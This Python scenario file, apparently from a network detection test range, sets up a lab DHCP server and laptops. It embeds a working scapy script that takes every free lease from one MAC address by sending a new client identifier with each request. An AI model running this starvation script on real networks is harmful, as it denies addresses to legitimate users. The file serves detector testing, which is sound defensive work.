"""Lease after lease for one network card: each time it says another client identifier (RFC 2132, 9.14)."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import os, sys
conf.checkIPaddr = False  # an offer comes from an address that was not asked
me, missed = sys.argv[1], 0
hardware = bytes.fromhex(me.replace(":", ""))
for number in range(70):
    base = Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
    base = base / UDP(sport=68, dport=67)
    base = base / BOOTP(chaddr=hardware, xid=int.from_bytes(os.urandom(4), "big"), flags=0x8000)
    who = ("client_id", b"\\x00" + os.urandom(8))
    offer = srp1(base / DHCP(options=[("message-type", "discover"), who, "end"]), timeout=2,
                 filter="udp src port 67")
    if offer is None:
        missed += 1
        if missed == 4:
            break
        continue
    server = dict(o for o in offer[DHCP].options if isinstance(o, tuple))["server_id"]
    wanted = [("message-type", "request"), who, ("server_id", server)]
    wanted += [("requested_addr", offer.yiaddr), "end"]
    sendp(base / DHCP(options=wanted))
    time.sleep(0.2)
"""


def run(net: Range) -> None:
    attacker, server = net.inside("attacker"), net.inside("dhcp")
    laptops = [net.inside(f"laptop{number}", address=False) for number in (1, 2, 3)]
    servers.leases(server, "10.20.0.200", "10.20.0.249", "10.20.0.1", "no-ping")
    net.everyday()
    for laptop in laptops:
        laptop.run("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true", check=False)
        net.quiet(1.5)
    with net.attack(
        "dhcp-starvation",
        by=attacker,
        attackers=[attacker.mac],
        victims=[server],
        frames="udp dst port 67",
        responses="udp src port 67",
    ):
        net.scapy(attacker, PROGRAM, attacker.mac, seconds=45)
    net.quiet(2)


SCENARIO = Scenario(
    name="dhcp-starvation-held-identifiers",
    about="A station takes the 47 free leases with one MAC address and ever new client identifiers.",
    detectors=("dhcp-starvation",),
    tools={"udhcpc": "busybox"},
    held_out=False,
    snap_octets=400,
    run=run,
)
